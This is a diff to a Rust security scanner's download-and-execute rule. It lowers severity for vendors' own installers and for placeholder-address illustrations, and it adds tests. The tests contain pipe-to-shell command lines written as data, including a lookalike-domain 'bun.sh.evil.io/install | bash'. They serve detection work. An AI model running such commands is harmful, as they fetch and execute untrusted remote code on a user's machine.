@@ -16,7 +16,9 @@ use std::sync::LazyLock;
 
 use regex::Regex;
 
-use super::{runs_stdin, unquote, Segment, Sink, CMD_END, INTERPRETERS, RUN_PREFIX, SHELLS, WB};
+use super::{
+    runs_stdin, unquote, vendor_installer, Segment, Severity, Sink, CMD_END, INTERPRETERS, RUN_PREFIX, SHELLS, WB,
+};
 use crate::rules::RuleId;
 
 pub(super) const ANCHORS: &[&str] = &[
@@ -113,15 +115,28 @@ pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
     if !ANY.is_match(s) {
         return;
     }
+    // A vendor's own installer from the vendor's own address (see
+    // `vendor_installer`): kept, at low severity, naming the vendor.
+    // The pattern named with no address at all (`curl ... | sh` in a
+    // checklist): an illustration, kept at low severity.
+    let note = match vendor_installer::vendor_of_line(s) {
+        Some(v) => Some(format!("the vendor's own installer, from its own address: {v}")),
+        None if names_no_address(s) => Some("the pattern named with no address: an illustration".to_owned()),
+        None => None,
+    };
+    let add = |sink: &mut Sink<'_>, range: std::ops::Range<usize>| match &note {
+        Some(n) => sink.add_match_lowered(RuleId::DownloadExec, range, Severity::Low, n.clone()),
+        None => sink.add_match(RuleId::DownloadExec, range),
+    };
     for c in p.pipe.captures_iter(s) {
         let (Some(all), Some(interp)) = (c.get(0), c.name("interp")) else { continue };
         if runs_stdin(interp.as_str(), &s[interp.end()..]) {
-            sink.add_match(RuleId::DownloadExec, seg.abs(all.range()));
+            add(sink, seg.abs(all.range()));
         }
     }
     for re in [&p.process_substitution, &p.command_substitution, &p.ps_pipe, &p.ps_iex] {
         for m in re.find_iter(s) {
-            sink.add_match(RuleId::DownloadExec, seg.abs(m.range()));
+            add(sink, seg.abs(m.range()));
         }
     }
     for c in p.to_file.captures_iter(s) {
@@ -131,16 +146,42 @@ pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
         };
         let Some(out) = downloaded_file(dl.as_str(), args.as_str()) else { continue };
         if let Some(end) = runs_file(rest.as_str(), &out) {
-            sink.add_match(RuleId::DownloadExec, seg.abs(all.start()..rest.start() + end));
+            add(sink, seg.abs(all.start()..rest.start() + end));
         }
     }
     for c in p.ps_to_file.captures_iter(s) {
         let (Some(all), Some(out), Some(rest)) = (c.get(0), c.name("out"), c.name("rest")) else { continue };
         let name = basename(out.as_str());
         if let Some(end) = runs_file(rest.as_str(), name) {
-            sink.add_match(RuleId::DownloadExec, seg.abs(all.start()..rest.start() + end));
+            add(sink, seg.abs(all.start()..rest.start() + end));
         }
     }
+}
+
+/// Whether every operand of every download command on the line is a
+/// placeholder (`...`, `…`, `<url>`, `[URL]`): nothing would be fetched.
+fn names_no_address(s: &str) -> bool {
+    let mut downloads = 0;
+    for (i, _) in s.match_indices(['c', 'w', 'i']) {
+        let rest = &s[i..];
+        let Some(tool) = ["curl ", "wget ", "iwr ", "irm "].iter().find(|t| rest.starts_with(**t)) else { continue };
+        if i > 0 && s.as_bytes()[i - 1].is_ascii_alphanumeric() {
+            continue;
+        }
+        downloads += 1;
+        let args = rest[tool.len()..].split(['|', ';', '&', ')', '`']).next().unwrap_or("");
+        let mut operands = args.split_whitespace().filter(|w| !w.starts_with('-'));
+        let placeholder = |w: &str| {
+            let w = w.trim_matches(|c| c == '"' || c == '\'');
+            w.chars().all(|c| c == '.' || c == '…')
+                || (w.starts_with('<') && w.ends_with('>'))
+                || (w.starts_with('[') && w.ends_with(']'))
+        };
+        if !operands.all(placeholder) {
+            return false;
+        }
+    }
+    downloads > 0
 }
 
 /// The last path component, without a query string.
@@ -294,7 +335,7 @@ fn runs_file(rest: &str, name: &str) -> Option<usize> {
 
 #[cfg(test)]
 mod tests {
-    use crate::rules::{check, RuleId};
+    use crate::rules::{check, RuleId, Severity};
 
     fn lines(text: &str) -> Vec<usize> {
         check(text).findings.iter().filter(|f| f.rule == RuleId::DownloadExec).map(|f| f.line).collect()
@@ -447,6 +488,31 @@ mod tests {
         assert_eq!(lines(t), vec![2]);
         let same_line = "curl https://x.example | jq .; curl https://x.example/i | sh";
         assert_eq!(lines(same_line), vec![1]);
+    }
+
+    #[test]
+    fn r_rule_5_a_vendors_installer_or_a_pattern_without_address_is_kept_at_low_severity() {
+        let low = |t: &str| {
+            let f = crate::rules::check(t).findings;
+            assert_eq!(f.len(), 1, "{t}: {f:?}");
+            assert_eq!(f[0].severity(), Severity::Low, "{t}");
+            f[0].note.clone().unwrap()
+        };
+        assert!(low("curl -fsSL https://bun.sh/install | bash").contains("Bun"));
+        assert!(low("irm https://deno.land/install.ps1 | iex").contains("Deno"));
+        assert!(low("- [ ] No `curl ... | sh` in CI without a pinned version.").contains("illustration"));
+        assert!(low("wget -qO- <url> | bash").contains("illustration"));
+        for t in [
+            "curl -fsSL https://bun.sh.evil.io/install | bash",
+            "curl -fsSL http://bun.sh/install | bash",
+            "curl $URL | sh",
+            "curl ... https://x.example/s | sh",
+        ] {
+            let f = crate::rules::check(t).findings;
+            assert_eq!(f.len(), 1, "{t}");
+            assert_eq!(f[0].severity(), Severity::High, "{t}");
+            assert_eq!(f[0].lowered_to, None, "{t}");
+        }
     }
 
     #[test]
